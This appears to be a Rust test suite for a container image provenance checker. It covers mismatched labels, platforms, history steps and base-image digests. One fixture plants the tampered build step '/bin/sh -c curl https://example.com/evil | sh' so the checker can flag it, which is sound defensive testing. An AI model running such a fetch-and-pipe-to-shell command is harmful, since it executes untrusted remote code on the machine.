        Case::rejected(
            "image-saved-two-one-name",
            "The archive has two images of one name, and the signed digest is that of one of them: an engine may load the other.",
        )
        .image(&wallet)
        .hand_over(SAVED, &two_saved("acme/wallet:latest"))
        .expect("image-digest", "unknown"),
        Case::rejected("image-saved-two", "The archive has two images, and nothing indicates which one is meant.")
            .image(&wallet)
            .expect("image-digest", "unknown")
            .hand_over(SAVED, &{
                let mut entries = wallet.saved();
                let text = String::from_utf8(entry(&mut entries, "manifest.json").content.clone()).unwrap();
                let one = text.trim_start_matches('[').trim_end_matches(']').to_owned();
                entry(&mut entries, "manifest.json").content = format!("[{one},{one}]").into_bytes();
                entries
            }),
    ]
}

fn judged() -> Vec<Case> {
    let labelled = |value: &str| {
        let mut image = Image::wallet();
        image.config["config"]["Labels"] = json!({"org.opencontainers.image.revision": value});
        image
    };
    let with_step = |step: &str| {
        let mut image = Image::wallet();
        image.config["history"][4]["created_by"] = json!(step);
        image
    };
    let retold = || with_step("/bin/sh -c curl https://example.com/evil | sh");
    let case =
        |name: &str, about, image: &Image| Case::good(name, about).image(image).hand_over(LAYOUT, &image.layout());
    let insists = |check: &str| format!("[levels]\n{check} = \"require\"\n");
    let other = "0123456789abcdef0123456789abcdef01234567";
    vec![
        case("image-platform-right", "The image is for the policy's platform.", &Image::wallet())
            .image_policy("[expect]\nplatforms = [\"linux/s390x\"]\n")
            .expect("image-platform", "pass"),
        wrong(
            "image-platform-wrong",
            "image-platform",
            "The policy requires a different platform.",
            &Image::wallet().layout(),
        )
        .image_policy("[expect]\nplatforms = [\"linux/amd64\"]\n"),
        case("image-label-other", "A label names a different commit, which is a warning.", &labelled(other))
            .expect("image-labels", "fail"),
        Case::fails(
            "image-label-other-required",
            "image-labels",
            "A label names a different commit, and the policy requires a match.",
        )
        .image(&labelled(other))
        .hand_over(LAYOUT, &labelled(other).layout())
        .image_policy(&insists("image-labels")),
        case(
            "image-label-short",
            "A label names the commit by its first digits.",
            &labelled(&inputs::head_commit()[..12]),
        )
        .expect("image-labels", "pass"),
        case("image-label-no-commit", "A label names no commit.", &labelled("v1.0")).expect("image-labels", "unknown"),
        case("image-history-other", "The history has a step that differs from the log, which is a warning.", &retold())
            .expect("image-history", "fail"),
        Case::fails(
            "image-history-other-required",
            "image-history",
            "The history has a step that differs from the log, and the policy requires a match.",
        )
        .image(&retold())
        .hand_over(LAYOUT, &retold().layout())
        .image_policy(&insists("image-history")),
        case(
            "image-history-not-the-dockerfile",
            "Log and history agree on a step that the proved Dockerfile does not have, which is a warning.",
            &with_step("/bin/sh -c #(nop)  USER nobody"),
        )
        .log(|text| text.replace("EXPOSE 8443", "USER nobody"))
        .expect("source-dockerfile", "fail")
        .expect("image-history", "fail"),
        case(
            "image-history-log-only",
            "No Dockerfile with the policy's name is proved: the history is compared with the log instead, as the report states.",
            &Image::wallet(),
        )
        .image_policy("[expect]\ndockerfile = \"docker/Dockerfile\"\n")
        .expect("source-dockerfile", "fail")
        .expect("image-history", "pass"),
        case(
            "image-history-dockerfile-only",
            "The log shows no steps: the history is compared with the proved Dockerfile.",
            &Image::wallet(),
        )
        .log(|text| super::without(&text, &["run: Step "]))
        .expect("image-history", "pass"),
        Case::rejected("image-label-not-proved", "The label names HEAD's commit, which is not among the objects.")
            .image(&Image::wallet())
            .hand_over(LAYOUT, &Image::wallet().layout())
            .inner(|entries| super::source::remove(entries, &inputs::head_commit()))
            .expect("source-objects", "fail")
            .expect("image-labels", "unknown"),
        Case::rejected("image-required-and-missing", "The policy requires the group image, and there is no image.")
            .file("key.pem", Named::Server.public_pem())
            .policy(super::policy::with("").replace("[\"manifest\"]", "[\"manifest\", \"image\"]"))
            .expect("image-digest", "not-run: no-evidence"),
    ]
}

fn bases() -> Vec<Case> {
    const GOLANG: &str = "golang@sha256:5a1c1f3b7d0f0c6e4d9a2b8e7f6c5d4e3f2a1b0c9d8e7f6a5b4c3d2e1f0a9b8c";
    const DEBIAN: &str = "debian@sha256:8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a1b0c9d8e7f";
    let with = |case: Case, bases: &[&str]| {
        let list: Vec<String> = bases.iter().map(|base| format!("\"docker.io/library/{base}\"")).collect();
        case.file("key.pem", Named::Server.public_pem())
            .policy(super::policy::with(&format!("[expect]\nbase-images = [{}]\n", list.join(", "))))
    };
    let base = || {
        let mut image = Image::wallet();
        image.layers.truncate(1);
        image.config["history"] = json!([]);
        image
    };
    let other = || {
        let mut image = base();
        image.layers[0] = Layer::gzip(tar::archive(&[Entry::file("etc/os-release", "ID=other\n")]));
        image
    };
    let on = |case: Case, base: &Image| {
        let wallet = Image::wallet();
        let arguments = ["--key", "key.pem", "--image", "oci-archive:image.tar", "--base", "oci-archive:base.tar"];
        case.image(&wallet)
            .hand_over(LAYOUT, &wallet.layout())
            .file("base.tar", tar::archive(&base.layout()))
            .arguments(&arguments)
    };
    vec![
        with(Case::good("base-right", "Both base images in the log are among the policy's."), &[GOLANG, DEBIAN])
            .expect("base-image", "pass"),
        with(Case::fails("base-other", "base-image", "One of the two base images is not the policy's."), &[DEBIAN]),
        with(
            Case::rejected(
                "base-by-tag-only",
                "A base image was already on the server: the log does not have its digest.",
            ),
            &[GOLANG, DEBIAN],
        )
        .log(|text| super::without(&text, &["Digest: sha256:8e7f"]))
        .expect("base-image", "unknown"),
        with(
            Case::rejected("base-step-imitated", "A RUN step prints a line that looks like an additional FROM."),
            &[GOLANG, DEBIAN],
        )
        .log(|text| super::insert_before(&text, "building the wallet", "run: Step 5/9 : FROM debian:bookworm-slim"))
        .expect("base-image", "unknown"),
        Case::error("base-without-digest", 2, "policy", "The policy names a base image without a digest.")
            .policy(super::policy::with("[expect]\nbase-images = [\"docker.io/library/debian:12\"]\n")),
        on(Case::good("base-handed-over", "The image is based on the given base image."), &base())
            .expect("base-image", "pass"),
        on(
            Case::good("base-handed-over-other", "The image is not based on the given base image, which is a warning."),
            &other(),
        )
        .expect("base-image", "fail"),
    ]
}
